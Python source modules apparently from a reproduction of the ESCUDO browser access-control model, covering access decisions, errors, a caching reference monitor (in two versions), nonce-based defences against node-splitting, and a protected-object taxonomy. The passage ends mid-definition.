The ESCUDO MAC policy evaluates an access request ``<P ▷ O>`` against three
rules (origin, ring, ACL).  The reference monitor reports its verdict as an
:class:`AccessDecision`, which records which rules were evaluated, which rule
(if any) denied the request, and a human-readable reason.  Decisions are
plain immutable values so they can be logged, asserted on in tests, and
aggregated by the benchmark harness.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Mapping


class Operation(str, enum.Enum):
    """The three operations ESCUDO ACLs distinguish.

    ``READ`` and ``WRITE`` have their usual meaning.  ``USE`` covers implicit
    accesses the browser performs on behalf of a principal -- attaching
    cookies to an HTTP request the principal initiated, delivering a UI event
    to a DOM element, or invoking a native API such as ``XMLHttpRequest``.
    """

    READ = "read"
    WRITE = "write"
    USE = "use"

    @classmethod
    def from_text(cls, text: str) -> "Operation":
        """Parse an operation name (accepts the short ``r``/``w``/``x`` forms)."""
        normalized = text.strip().lower()
        try:
            return _OPERATION_ALIASES[normalized]
        except KeyError:
            from .errors import UnknownOperationError

            raise UnknownOperationError(f"unknown operation {text!r}") from None

    @property
    def short_name(self) -> str:
        """The single-letter attribute name used in AC tags (``r``/``w``/``x``)."""
        return {"read": "r", "write": "w", "use": "x"}[self.value]

    def __str__(self) -> str:  # pragma: no cover - cosmetic
        return self.value


#: Parsed once at import time; Operation.from_text runs on hot labelling paths.
_OPERATION_ALIASES = {
    "r": Operation.READ,
    "read": Operation.READ,
    "w": Operation.WRITE,
    "write": Operation.WRITE,
    "x": Operation.USE,
    "use": Operation.USE,
    "execute": Operation.USE,
}


class Rule(str, enum.Enum):
    """The individual rules making up the ESCUDO policy.

    ``TAMPER`` is not one of the paper's three access rules; it labels
    denials produced by the anti-tampering protections of Section 5
    (configuration attributes are never writable from scripts).
    """

    ORIGIN = "origin-rule"
    RING = "ring-rule"
    ACL = "acl-rule"
    TAMPER = "tamper-protection"

    def __str__(self) -> str:  # pragma: no cover - cosmetic
        return self.value


class Verdict(str, enum.Enum):
    """Final outcome of an access request."""

    ALLOW = "allow"
    DENY = "deny"

    def __bool__(self) -> bool:
        return self is Verdict.ALLOW

    def __str__(self) -> str:  # pragma: no cover - cosmetic
        return self.value


@dataclass(frozen=True)
class RuleOutcome:
    """Outcome of evaluating one rule for one access request."""

    rule: Rule
    passed: bool
    detail: str = ""

    def __str__(self) -> str:
        status = "pass" if self.passed else "FAIL"
        if self.detail:
            return f"{self.rule.value}: {status} ({self.detail})"
        return f"{self.rule.value}: {status}"


@dataclass(frozen=True)
class AccessDecision:
    """The reference monitor's verdict on a single access request.

    Attributes
    ----------
    verdict:
        ``ALLOW`` or ``DENY``.
    operation:
        The requested :class:`Operation`.
    principal_label:
        Short description of the requesting principal (for logs and reports).
    object_label:
        Short description of the target object.
    outcomes:
        Per-rule evaluation results, in the order the rules were applied.
    policy:
        Name of the policy model that produced the decision (``"escudo"`` or
        ``"same-origin"``), so mixed-model experiments can attribute results.
    """

    verdict: Verdict
    operation: Operation
    principal_label: str
    object_label: str
    outcomes: tuple[RuleOutcome, ...] = field(default_factory=tuple)
    policy: str = "escudo"

    @property
    def allowed(self) -> bool:
        """True when the access was permitted."""
        return self.verdict is Verdict.ALLOW

    @property
    def denied(self) -> bool:
        """True when the access was refused."""
        return self.verdict is Verdict.DENY

    @property
    def denying_rule(self) -> Rule | None:
        """The first rule that failed, or ``None`` for allowed requests."""
        for outcome in self.outcomes:
            if not outcome.passed:
                return outcome.rule
        return None

    def outcome_for(self, rule: Rule) -> RuleOutcome | None:
        """Return the evaluation result of ``rule``, if it was evaluated."""
        for outcome in self.outcomes:
            if outcome.rule is rule:
                return outcome
        return None

    def as_dict(self) -> Mapping[str, object]:
        """Serialise the decision for logging / benchmark reports."""
        return {
            "verdict": self.verdict.value,
            "operation": self.operation.value,
            "principal": self.principal_label,
            "object": self.object_label,
            "policy": self.policy,
            "denying_rule": self.denying_rule.value if self.denying_rule else None,
            "outcomes": [
                {"rule": o.rule.value, "passed": o.passed, "detail": o.detail}
                for o in self.outcomes
            ],
        }

    def __bool__(self) -> bool:
        return self.allowed

    def __str__(self) -> str:
        status = "ALLOW" if self.allowed else "DENY"
        parts = [f"{status} {self.operation.value} {self.principal_label} -> {self.object_label}"]
        if self.denied and self.denying_rule is not None:
            parts.append(f"denied by {self.denying_rule.value}")
        return " | ".join(parts)


def allow(
    operation: Operation,
    principal_label: str,
    object_label: str,
    outcomes: tuple[RuleOutcome, ...] = (),
    policy: str = "escudo",
) -> AccessDecision:
    """Convenience constructor for an allowing decision."""
    return AccessDecision(
        verdict=Verdict.ALLOW,
        operation=operation,
        principal_label=principal_label,
        object_label=object_label,
        outcomes=outcomes,
        policy=policy,
    )


def deny(
    operation: Operation,
    principal_label: str,
    object_label: str,
    outcomes: tuple[RuleOutcome, ...] = (),
    policy: str = "escudo",
) -> AccessDecision:
    """Convenience constructor for a denying decision."""
    return AccessDecision(
        verdict=Verdict.DENY,
        operation=operation,
        principal_label=principal_label,
        object_label=object_label,
        outcomes=outcomes,
        policy=policy,
    )
