"""Exception hierarchy for the ESCUDO reproduction.

All exceptions raised by :mod:`repro.core` derive from :class:`EscudoError`
so that callers can catch the whole family with a single ``except`` clause.
Enforcement denials are *not* exceptions by default -- the reference monitor
returns :class:`repro.core.decision.AccessDecision` objects -- but a strict
mode is available in which denials raise :class:`AccessDenied`.
"""

from __future__ import annotations


class EscudoError(Exception):
    """Base class for every error raised by the ESCUDO core."""


class ConfigurationError(EscudoError):
    """An ESCUDO configuration (AC tag, HTTP header, policy table) is invalid.

    Raised for malformed ring attributes, ACL entries that name unknown
    operations, negative ring numbers, or cookie/API header syntax errors
    when the parser runs in strict mode.  In lenient mode (the default for
    browser-facing parsing, mirroring the fail-safe-defaults guideline of the
    paper) malformed values fall back to safe defaults instead of raising.
    """


class RingRangeError(ConfigurationError):
    """A ring label lies outside the page's configured ring range."""


class AccessDenied(EscudoError):
    """An access request was denied by the reference monitor (strict mode).

    Attributes
    ----------
    decision:
        The :class:`repro.core.decision.AccessDecision` describing which rule
        failed and why.
    """

    def __init__(self, decision) -> None:
        super().__init__(str(decision))
        self.decision = decision


class NonceError(EscudoError):
    """A markup-randomisation nonce failed validation.

    This signals a *potential node-splitting attack*: a ``</div>`` terminator
    whose nonce does not match the nonce of the AC tag it claims to close.
    The browser-side handling ignores the bogus terminator (per the paper);
    this exception is used by server-side template tooling and by the strict
    validator in :mod:`repro.core.nonce`.
    """


class ScopingViolation(EscudoError):
    """An element attempted to claim more privilege than its enclosing scope.

    The scoping rule clamps such labels silently during enforcement, but the
    strict auditing API reports violations with this exception so that web
    application developers can detect misconfigured templates.
    """


class TamperingError(EscudoError):
    """A principal attempted to modify ESCUDO configuration state at runtime.

    ESCUDO performs ring mapping exactly once, at parse time; configuration
    is never exposed to scripts.  Attempts to overwrite the ``ring``/ACL
    attributes of an AC tag through the DOM API are rejected with this error.
    """


class UnknownOperationError(EscudoError):
    """An access request referenced an operation the model does not define."""
