"""The ESCUDO Reference Monitor (ERM).

The paper's implementation section describes three parts: extracting security
contexts, tracking them through the browser, and enforcing the access-control
policy.  The reference monitor is the enforcement part: a single choke point
the browser substrate calls whenever a principal tries to read, write or use
an object.  Keeping enforcement in one class gives the *complete mediation*
property and makes the audit trail (used by the defence-effectiveness and
overhead benchmarks) trivial to collect.

The monitor is policy-agnostic: it is constructed with either the
:class:`~repro.core.policy.EscudoPolicy` or the
:class:`~repro.core.sop.SameOriginPolicy` baseline, which is how the
benchmarks compare the two models on identical workloads.

Because every access funnels through here, the monitor is also the system's
hottest path.  Mediation is organised as a pipeline::

    principal -> coerce contexts -> DecisionCache -> policy rules -> decision -> stats + audit

Security contexts are frozen values, so a policy verdict for a
``(principal, target, operation)`` triple can be memoised in a
:class:`~repro.core.cache.DecisionCache`; on the overwhelmingly common allow
path a warm cache reduces mediation to one dict lookup plus bookkeeping.
:meth:`ReferenceMonitor.authorize_all` additionally batches sweeps (cookie
attachment, event propagation paths, DOM traversals): the principal is
coerced once and each *distinct* target context is decided once.
"""

from __future__ import annotations

from collections import Counter, deque
from dataclasses import dataclass, field
from typing import Iterable

from .cache import CacheInfo, DecisionCache
from .context import SecurityContext
from .decision import AccessDecision, Operation, Rule, RuleOutcome, Verdict
from .errors import AccessDenied
from .policy import AccessRequest, EscudoPolicy, Policy


@dataclass
class MonitorStats:
    """Aggregate counters maintained by the reference monitor.

    The overhead benchmark reads ``total`` to confirm mediation actually
    happened; the defence benchmarks read ``denied_by_rule`` to attribute
    neutralised attacks to specific rules.
    """

    total: int = 0
    allowed: int = 0
    denied: int = 0
    denied_by_rule: Counter = field(default_factory=Counter)
    by_operation: Counter = field(default_factory=Counter)

    def record(self, decision: AccessDecision) -> None:
        """Fold one decision into the counters."""
        self.total += 1
        self.by_operation[decision.operation.value] += 1
        if decision.allowed:
            self.allowed += 1
        else:
            self.denied += 1
            rule = decision.denying_rule
            if rule is not None:
                self.denied_by_rule[rule.value] += 1

    def reset(self) -> None:
        """Zero all counters."""
        self.total = 0
        self.allowed = 0
        self.denied = 0
        self.denied_by_rule.clear()
        self.by_operation.clear()


class AuditLog:
    """Bounded in-memory log of access decisions.

    Backed by a ``deque(maxlen=capacity)`` so appends stay O(1) even when the
    log is full (list-based eviction was O(n) per append, which showed up in
    the mediation benchmarks once the log saturated).
    """

    def __init__(self, capacity: int = 10_000) -> None:
        if capacity <= 0:
            raise ValueError("audit log capacity must be positive")
        self._capacity = capacity
        self._entries: deque[AccessDecision] = deque(maxlen=capacity)

    def append(self, decision: AccessDecision) -> None:
        """Record a decision, evicting the oldest entry when full."""
        self._entries.append(decision)

    @property
    def capacity(self) -> int:
        """Maximum number of retained decisions."""
        return self._capacity

    @property
    def entries(self) -> tuple[AccessDecision, ...]:
        """All retained decisions, oldest first."""
        return tuple(self._entries)

    def denials(self) -> tuple[AccessDecision, ...]:
        """Only the denied decisions."""
        return tuple(d for d in self._entries if d.denied)

    def clear(self) -> None:
        """Drop every retained decision."""
        self._entries.clear()

    def __len__(self) -> int:
        return len(self._entries)

    def __iter__(self):
        return iter(self._entries)


def _coerce_context(entity) -> SecurityContext:
    """Accept a ``SecurityContext`` or anything exposing one.

    Supports the :class:`~repro.core.objects.Protected` protocol
    (``security_context`` property), the ``context`` attribute used by
    :class:`~repro.core.principal.Principal` / ``ProtectedObject``, and raw
    contexts.  Raising ``TypeError`` for anything else keeps misuse loud.
    """
    if isinstance(entity, SecurityContext):
        return entity
    context = getattr(entity, "security_context", None)
    if isinstance(context, SecurityContext):
        return context
    context = getattr(entity, "context", None)
    if isinstance(context, SecurityContext):
        return context
    raise TypeError(f"{entity!r} does not carry a security context")


def _label_of(entity, explicit: str) -> str:
    """Best-effort display label for an entity."""
    if explicit:
        return explicit
    label = getattr(entity, "label", None)
    if isinstance(label, str) and label:
        return label
    context = _coerce_context(entity)
    return context.label


def _label_with_context(entity, context: SecurityContext, explicit: str) -> str:
    """Like :func:`_label_of` but reuses an already-coerced context."""
    if explicit:
        return explicit
    label = getattr(entity, "label", None)
    if isinstance(label, str) and label:
        return label
    return context.label


class ReferenceMonitor:
    """Single enforcement point for all principal → object interactions.

    Parameters
    ----------
    policy:
        The protection model to enforce.  Defaults to the full ESCUDO policy.
        Swapping it later (``monitor.policy = other``) invalidates the
        decision cache.
    strict:
        When true, denials raise :class:`~repro.core.errors.AccessDenied`
        instead of only returning a denying decision.  The browser substrate
        runs in non-strict mode (denied operations become silent no-ops or
        script exceptions, mirroring how the prototype neutralises attacks);
        strict mode is handy in unit tests.
    audit_capacity:
        Size of the in-memory audit log.
    cache:
        ``True`` (default) enables the :class:`DecisionCache` fast path,
        ``False`` disables it (every request re-evaluates the policy -- the
        baseline the mediation benchmark compares against), or pass a
        pre-built :class:`DecisionCache` to share/inspect one.
    cache_size:
        Capacity of the decision cache when one is built internally.
    """

    def __init__(
        self,
        policy: Policy | None = None,
        *,
        strict: bool = False,
        audit_capacity: int = 10_000,
        cache: DecisionCache | bool = True,
        cache_size: int = 4096,
    ) -> None:
        self._policy = policy if policy is not None else EscudoPolicy()
        self._policy_token = self._policy.cache_token
        self.strict = strict
        self.stats = MonitorStats()
        self.audit = AuditLog(audit_capacity)
        #: Optional per-decision tap (``callable(AccessDecision)``) invoked
        #: after stats/audit bookkeeping.  The static-analysis screen uses
        #: it to attribute every mediation to the script being executed.
        self.observer = None
        if cache is True:
            self.cache: DecisionCache | None = DecisionCache(cache_size)
        elif cache is False:
            self.cache = None
        else:
            self.cache = cache

    # -- policy management --------------------------------------------------------

    @property
    def policy(self) -> Policy:
        """The protection model currently enforced."""
        return self._policy

    @policy.setter
    def policy(self, policy: Policy) -> None:
        """Swap the enforced policy; cached verdicts are invalidated."""
        self._policy = policy
        self._policy_token = policy.cache_token
        self.invalidate_cache()

    # -- main entry points --------------------------------------------------------

    def authorize(
        self,
        principal,
        target,
        operation: Operation | str,
        *,
        principal_label: str = "",
        object_label: str = "",
    ) -> AccessDecision:
        """Mediate one access request and return the decision.

        ``principal`` and ``target`` may be raw :class:`SecurityContext`
        values or any objects exposing one (DOM elements, cookies, API
        handles, :class:`Principal` / :class:`ProtectedObject` wrappers).
        """
        op = operation if isinstance(operation, Operation) else Operation.from_text(operation)
        principal_ctx = _coerce_context(principal)
        target_ctx = _coerce_context(target)
        decision = self._decide(
            principal_ctx,
            target_ctx,
            op,
            _label_with_context(principal, principal_ctx, principal_label),
            _label_with_context(target, target_ctx, object_label),
        )
        self._record(decision)
        return decision

    def allows(
        self,
        principal,
        target,
        operation: Operation | str,
        *,
        principal_label: str = "",
        object_label: str = "",
    ) -> bool:
        """Fast-path predicate: mediate one access and return the verdict.

        Identical bookkeeping to :meth:`authorize` (the access is still
        recorded in stats and audit); only the return type differs.  Call
        sites that branch on allow/deny read better with a boolean, and on a
        warm cache the whole call is a dict lookup plus counters.
        """
        return self.authorize(
            principal,
            target,
            operation,
            principal_label=principal_label,
            object_label=object_label,
        ).allowed

    def authorize_all(
        self,
        principal,
        targets: Iterable,
        operation: Operation | str,
        *,
        principal_label: str = "",
    ) -> list[AccessDecision]:
        """Mediate the same operation by one principal over many targets.

        This is a true batch call: the principal's context and label are
        coerced exactly once, and targets sharing a security context hit the
        policy (or the cache) once per *distinct* context rather than once
        per target.  Every target still produces -- and records -- its own
        decision, preserving complete mediation of the sweep.
        """
        op = operation if isinstance(operation, Operation) else Operation.from_text(operation)
        principal_ctx = _coerce_context(principal)
        principal_lbl = _label_with_context(principal, principal_ctx, principal_label)

        decisions: list[AccessDecision] = []
        batch_memo: dict[tuple[SecurityContext, str], AccessDecision] = {}
        for target in targets:
            target_ctx = _coerce_context(target)
            target_lbl = _label_with_context(target, target_ctx, "")
            memo_key = (target_ctx, target_lbl)
            decision = batch_memo.get(memo_key)
            if decision is None:
                decision = self._decide(principal_ctx, target_ctx, op, principal_lbl, target_lbl)
                batch_memo[memo_key] = decision
            self._record(decision)
            decisions.append(decision)
        return decisions

    def warm(
        self,
        principal,
        targets: Iterable,
        operation: Operation | str,
        *,
        principal_label: str = "",
    ) -> int:
        """Precompute verdicts for a sweep without recording any access.

        Traversal helpers (``getElementsByTagName`` walks, selector sweeps)
        call this so that the per-element accesses that follow are all cache
        hits.  Nothing is added to stats or the audit log -- warming is not
        an access -- so complete-mediation accounting is unchanged.  Returns
        the number of distinct decisions ensured in the cache (0 when the
        cache is disabled).
        """
        if self.cache is None:
            return 0
        op = operation if isinstance(operation, Operation) else Operation.from_text(operation)
        principal_ctx = _coerce_context(principal)
        principal_lbl = _label_with_context(principal, principal_ctx, principal_label)
        seen: set[tuple[SecurityContext, str]] = set()
        for target in targets:
            target_ctx = _coerce_context(target)
            target_lbl = _label_with_context(target, target_ctx, "")
            memo_key = (target_ctx, target_lbl)
            if memo_key in seen:
                continue
            seen.add(memo_key)
            self._decide(principal_ctx, target_ctx, op, principal_lbl, target_lbl)
        return len(seen)

    # -- decision pipeline ---------------------------------------------------------

    def _decide(
        self,
        principal_ctx: SecurityContext,
        target_ctx: SecurityContext,
        operation: Operation,
        principal_label: str,
        object_label: str,
    ) -> AccessDecision:
        """Produce the decision for fully-coerced inputs, via the cache."""
        cache = self.cache
        if cache is None:
            return self._evaluate(principal_ctx, target_ctx, operation, principal_label, object_label)
        # The policy token makes sharing one cache between monitors with
        # different policies safe: verdicts can never cross policies.
        key = (self._policy_token, principal_ctx, target_ctx, operation, principal_label, object_label)
        decision = cache.get(key)
        if decision is None:
            decision = self._evaluate(
                principal_ctx, target_ctx, operation, principal_label, object_label
            )
            cache.put(key, decision)
        return decision

    def _evaluate(
        self,
        principal_ctx: SecurityContext,
        target_ctx: SecurityContext,
        operation: Operation,
        principal_label: str,
        object_label: str,
    ) -> AccessDecision:
        """Run the policy rules (the slow path / cache filler)."""
        request = AccessRequest(
            principal=principal_ctx,
            target=target_ctx,
            operation=operation,
            principal_label=principal_label,
            object_label=object_label,
        )
        return self._policy.evaluate(request)

    # -- special denials ------------------------------------------------------------

    def deny_tampering(
        self,
        principal,
        target,
        operation: Operation | str = Operation.WRITE,
        *,
        reason: str = "ESCUDO configuration attributes are not writable from content",
        principal_label: str = "",
        object_label: str = "",
    ) -> AccessDecision:
        """Record a denial caused by the anti-tampering protections.

        Used when a script attempts to modify ``ring``/ACL/nonce attributes
        through the DOM API: the request never reaches the three-rule policy,
        it is categorically refused (Section 5, "a principal increasing
        privilege").  Tamper denials are never cached: they are rare, and the
        reason string is call-site specific.
        """
        op = operation if isinstance(operation, Operation) else Operation.from_text(operation)
        decision = AccessDecision(
            verdict=Verdict.DENY,
            operation=op,
            principal_label=_label_of(principal, principal_label),
            object_label=_label_of(target, object_label),
            outcomes=(RuleOutcome(Rule.TAMPER, False, reason),),
            policy=self._policy.name,
        )
        self._record(decision)
        return decision

    # -- bookkeeping -----------------------------------------------------------------

    def _record(self, decision: AccessDecision) -> None:
        self.stats.record(decision)
        self.audit.append(decision)
        if self.observer is not None:
            self.observer(decision)
        if self.strict and decision.denied:
            raise AccessDenied(decision)

    def reset(self) -> None:
        """Clear statistics, audit log and cached verdicts (new page load)."""
        self.stats.reset()
        self.audit.clear()
        self.invalidate_cache()

    def invalidate_cache(self) -> None:
        """Drop every cached verdict (bumps the cache generation).

        Called automatically on :meth:`reset` and policy swap; browser code
        calls it whenever live objects are relabelled in place (ACL, ring or
        nonce changes), so no stale verdict can outlive a privilege change.
        """
        if self.cache is not None:
            self.cache.invalidate()

    def cache_info(self) -> CacheInfo | None:
        """Snapshot of cache effectiveness, or ``None`` when caching is off."""
        return self.cache.info() if self.cache is not None else None

    @property
    def model_name(self) -> str:
        """Name of the enforced policy (``"escudo"`` or ``"same-origin"``)."""
        return self._policy.name


#: Backwards-friendly alias matching the paper's terminology.
EscudoReferenceMonitor = ReferenceMonitor
