"""The ESCUDO Reference Monitor (ERM).

The paper's implementation section describes three parts: extracting security
contexts, tracking them through the browser, and enforcing the access-control
policy.  The reference monitor is the enforcement part: a single choke point
the browser substrate calls whenever a principal tries to read, write or use
an object.  Keeping enforcement in one class gives the *complete mediation*
property and makes the audit trail (used by the defence-effectiveness and
overhead benchmarks) trivial to collect.

The monitor is policy-agnostic: it is constructed with either the
:class:`~repro.core.policy.EscudoPolicy` or the
:class:`~repro.core.sop.SameOriginPolicy` baseline, which is how the
benchmarks compare the two models on identical workloads.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import Iterable

from .context import SecurityContext
from .decision import AccessDecision, Operation, Rule, RuleOutcome, Verdict
from .errors import AccessDenied
from .policy import AccessRequest, EscudoPolicy, Policy


@dataclass
class MonitorStats:
    """Aggregate counters maintained by the reference monitor.

    The overhead benchmark reads ``total`` to confirm mediation actually
    happened; the defence benchmarks read ``denied_by_rule`` to attribute
    neutralised attacks to specific rules.
    """

    total: int = 0
    allowed: int = 0
    denied: int = 0
    denied_by_rule: Counter = field(default_factory=Counter)
    by_operation: Counter = field(default_factory=Counter)

    def record(self, decision: AccessDecision) -> None:
        """Fold one decision into the counters."""
        self.total += 1
        self.by_operation[decision.operation.value] += 1
        if decision.allowed:
            self.allowed += 1
        else:
            self.denied += 1
            rule = decision.denying_rule
            if rule is not None:
                self.denied_by_rule[rule.value] += 1

    def reset(self) -> None:
        """Zero all counters."""
        self.total = 0
        self.allowed = 0
        self.denied = 0
        self.denied_by_rule.clear()
        self.by_operation.clear()


class AuditLog:
    """Bounded in-memory log of access decisions."""

    def __init__(self, capacity: int = 10_000) -> None:
        if capacity <= 0:
            raise ValueError("audit log capacity must be positive")
        self._capacity = capacity
        self._entries: list[AccessDecision] = []

    def append(self, decision: AccessDecision) -> None:
        """Record a decision, evicting the oldest entry when full."""
        if len(self._entries) >= self._capacity:
            del self._entries[0]
        self._entries.append(decision)

    @property
    def entries(self) -> tuple[AccessDecision, ...]:
        """All retained decisions, oldest first."""
        return tuple(self._entries)

    def denials(self) -> tuple[AccessDecision, ...]:
        """Only the denied decisions."""
        return tuple(d for d in self._entries if d.denied)

    def clear(self) -> None:
        """Drop every retained decision."""
        self._entries.clear()

    def __len__(self) -> int:
        return len(self._entries)

    def __iter__(self):
        return iter(self._entries)


def _coerce_context(entity) -> SecurityContext:
    """Accept a ``SecurityContext`` or anything exposing one.

    Supports the :class:`~repro.core.objects.Protected` protocol
    (``security_context`` property), the ``context`` attribute used by
    :class:`~repro.core.principal.Principal` / ``ProtectedObject``, and raw
    contexts.  Raising ``TypeError`` for anything else keeps misuse loud.
    """
    if isinstance(entity, SecurityContext):
        return entity
    context = getattr(entity, "security_context", None)
    if isinstance(context, SecurityContext):
        return context
    context = getattr(entity, "context", None)
    if isinstance(context, SecurityContext):
        return context
    raise TypeError(f"{entity!r} does not carry a security context")


def _label_of(entity, explicit: str) -> str:
    """Best-effort display label for an entity."""
    if explicit:
        return explicit
    label = getattr(entity, "label", None)
    if isinstance(label, str) and label:
        return label
    context = _coerce_context(entity)
    return context.label


class ReferenceMonitor:
    """Single enforcement point for all principal → object interactions.

    Parameters
    ----------
    policy:
        The protection model to enforce.  Defaults to the full ESCUDO policy.
    strict:
        When true, denials raise :class:`~repro.core.errors.AccessDenied`
        instead of only returning a denying decision.  The browser substrate
        runs in non-strict mode (denied operations become silent no-ops or
        script exceptions, mirroring how the prototype neutralises attacks);
        strict mode is handy in unit tests.
    audit_capacity:
        Size of the in-memory audit log.
    """

    def __init__(
        self,
        policy: Policy | None = None,
        *,
        strict: bool = False,
        audit_capacity: int = 10_000,
    ) -> None:
        self.policy = policy if policy is not None else EscudoPolicy()
        self.strict = strict
        self.stats = MonitorStats()
        self.audit = AuditLog(audit_capacity)

    # -- main entry point ---------------------------------------------------------

    def authorize(
        self,
        principal,
        target,
        operation: Operation | str,
        *,
        principal_label: str = "",
        object_label: str = "",
    ) -> AccessDecision:
        """Mediate one access request and return the decision.

        ``principal`` and ``target`` may be raw :class:`SecurityContext`
        values or any objects exposing one (DOM elements, cookies, API
        handles, :class:`Principal` / :class:`ProtectedObject` wrappers).
        """
        op = operation if isinstance(operation, Operation) else Operation.from_text(operation)
        request = AccessRequest(
            principal=_coerce_context(principal),
            target=_coerce_context(target),
            operation=op,
            principal_label=_label_of(principal, principal_label),
            object_label=_label_of(target, object_label),
        )
        decision = self.policy.evaluate(request)
        self._record(decision)
        return decision

    def authorize_all(
        self,
        principal,
        targets: Iterable,
        operation: Operation | str,
        *,
        principal_label: str = "",
    ) -> list[AccessDecision]:
        """Mediate the same operation by one principal over many targets."""
        return [
            self.authorize(principal, target, operation, principal_label=principal_label)
            for target in targets
        ]

    # -- special denials ------------------------------------------------------------

    def deny_tampering(
        self,
        principal,
        target,
        operation: Operation | str = Operation.WRITE,
        *,
        reason: str = "ESCUDO configuration attributes are not writable from content",
        principal_label: str = "",
        object_label: str = "",
    ) -> AccessDecision:
        """Record a denial caused by the anti-tampering protections.

        Used when a script attempts to modify ``ring``/ACL/nonce attributes
        through the DOM API: the request never reaches the three-rule policy,
        it is categorically refused (Section 5, "a principal increasing
        privilege").
        """
        op = operation if isinstance(operation, Operation) else Operation.from_text(operation)
        decision = AccessDecision(
            verdict=Verdict.DENY,
            operation=op,
            principal_label=_label_of(principal, principal_label),
            object_label=_label_of(target, object_label),
            outcomes=(RuleOutcome(Rule.TAMPER, False, reason),),
            policy=self.policy.name,
        )
        self._record(decision)
        return decision

    # -- bookkeeping -----------------------------------------------------------------

    def _record(self, decision: AccessDecision) -> None:
        self.stats.record(decision)
        self.audit.append(decision)
        if self.strict and decision.denied:
            raise AccessDenied(decision)

    def reset(self) -> None:
        """Clear statistics and the audit log (new page load / new run)."""
        self.stats.reset()
        self.audit.clear()

    @property
    def model_name(self) -> str:
        """Name of the enforced policy (``"escudo"`` or ``"same-origin"``)."""
        return self.policy.name


#: Backwards-friendly alias matching the paper's terminology.
EscudoReferenceMonitor = ReferenceMonitor
