"""Markup randomisation (nonces) for AC tags.

Section 5 of the paper: node-splitting attacks prematurely terminate a
``div`` region with an injected ``</div>`` and open a new, higher-privileged
region.  ESCUDO defeats this with *markup randomisation*: the server embeds a
random nonce in each AC ``div`` tag and repeats it on the matching ``</div>``
terminator.  The browser ignores any ``</div>`` whose nonce does not match
the nonce of the AC tag it would close.  Because the nonces are generated
freshly for every response, an attacker who injects content cannot predict
them.

Two components live here:

* :class:`NonceGenerator` -- server-side helper used by the template engine
  (:mod:`repro.webapps.templates`) to mint per-response nonces.  It accepts a
  seed so tests and benchmarks are reproducible.
* :class:`NonceValidator` -- browser-side matcher used by the HTML tree
  builder to decide whether a closing tag is legitimate, and a strict
  auditing mode that raises :class:`~repro.core.errors.NonceError` for
  server-side template validation.
"""

from __future__ import annotations

import hashlib
import itertools
from dataclasses import dataclass, field
from typing import Iterator

from .errors import NonceError

#: Attribute name carrying the nonce on AC tags and their terminators.
NONCE_ATTRIBUTE = "nonce"


class NonceGenerator:
    """Mints unpredictable per-tag nonces for one HTTP response.

    The generator is deterministic given ``(seed, counter)`` which keeps unit
    tests and benchmarks reproducible, while remaining unpredictable to page
    content: the seed is chosen by the server per response and never appears
    in the page except through the nonces themselves (which are hashed, so
    one nonce does not reveal the next).
    """

    def __init__(self, seed: str | int | None = None) -> None:
        self._seed = str(seed) if seed is not None else None
        self._counter = itertools.count(1)

    def next_nonce(self) -> str:
        """Return the next nonce value as a short hexadecimal token."""
        index = next(self._counter)
        if self._seed is None:
            import secrets

            return secrets.token_hex(8)
        digest = hashlib.sha256(f"{self._seed}:{index}".encode("utf-8")).hexdigest()
        return digest[:16]

    def __iter__(self) -> Iterator[str]:
        while True:
            yield self.next_nonce()


@dataclass
class NonceMismatch:
    """Record of a rejected closing tag (a likely node-splitting attempt)."""

    expected: str | None
    found: str | None
    context: str = ""

    def __str__(self) -> str:
        return (
            f"nonce mismatch: expected {self.expected!r}, found {self.found!r}"
            + (f" ({self.context})" if self.context else "")
        )


@dataclass
class NonceValidator:
    """Browser-side nonce matching.

    The HTML tree builder consults :meth:`matches` whenever it encounters a
    ``</div>`` that would close an AC tag.  If the nonces disagree the
    terminator is *ignored* (the paper's behaviour), and the mismatch is
    recorded so the defence-effectiveness benchmark can report how many
    node-splitting attempts were neutralised.
    """

    strict: bool = False
    mismatches: list[NonceMismatch] = field(default_factory=list)

    def matches(self, opening_nonce: str | None, closing_nonce: str | None, *, context: str = "") -> bool:
        """Decide whether a closing tag legitimately closes its AC tag.

        * If the opening tag carried no nonce, any terminator matches (the
          application chose not to use markup randomisation for this scope).
        * Otherwise the terminator must carry the identical nonce.
        """
        if opening_nonce is None:
            return True
        if closing_nonce is not None and _constant_time_equal(opening_nonce, closing_nonce):
            return True
        mismatch = NonceMismatch(expected=opening_nonce, found=closing_nonce, context=context)
        self.mismatches.append(mismatch)
        if self.strict:
            raise NonceError(str(mismatch))
        return False

    @property
    def rejected_count(self) -> int:
        """Number of terminators rejected so far."""
        return len(self.mismatches)

    def reset(self) -> None:
        """Clear recorded mismatches (new page load)."""
        self.mismatches.clear()


def _constant_time_equal(left: str, right: str) -> bool:
    """Constant-time string comparison, so nonce checks do not leak timing."""
    if len(left) != len(right):
        return False
    result = 0
    for a, b in zip(left, right):
        result |= ord(a) ^ ord(b)
    return result == 0
