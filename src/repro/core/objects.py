"""Protected objects: the resources access control guards.

Table 1 of the paper lists the objects inside the web browser:

* the **DOM** (every HTML element, which may simultaneously be a principal),
* **cookies**,
* **native code APIs** exposed to scripts (``XMLHttpRequest``, the DOM API),
* **browser state** (history, visited-link information).

This module defines the :class:`ProtectedObject` wrapper the reference
monitor consumes, the :class:`ObjectKind` taxonomy, and a small protocol so
richer substrate types (DOM elements, cookie-jar entries, API handles) can be
passed to the monitor directly as long as they expose a security context.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Protocol, runtime_checkable

from .context import SecurityContext


class ObjectKind(str, enum.Enum):
    """Classification of protected objects per Table 1."""

    DOM_ELEMENT = "dom-element"
    COOKIE = "cookie"
    NATIVE_API = "native-api"
    BROWSER_STATE = "browser-state"

    def __str__(self) -> str:  # pragma: no cover - cosmetic
        return self.value


#: Native APIs the reproduction models, with the paper's default ring (0).
NATIVE_APIS = ("XMLHttpRequest", "DOM API")

#: Browser-state objects, mandatorily assigned to ring 0 and not configurable.
BROWSER_STATE_OBJECTS = ("history", "visited-links", "cache")


@runtime_checkable
class Protected(Protocol):
    """Anything carrying a security context can be a target of mediation.

    DOM elements, cookies and API handles in the substrate packages satisfy
    this protocol, so the monitor does not force callers to wrap everything
    in :class:`ProtectedObject`.
    """

    @property
    def security_context(self) -> SecurityContext:  # pragma: no cover - protocol
        ...


@dataclass(frozen=True)
class ProtectedObject:
    """A protected resource with its kind and security context."""

    kind: ObjectKind
    context: SecurityContext
    description: str = ""
    configurable: bool = True

    @property
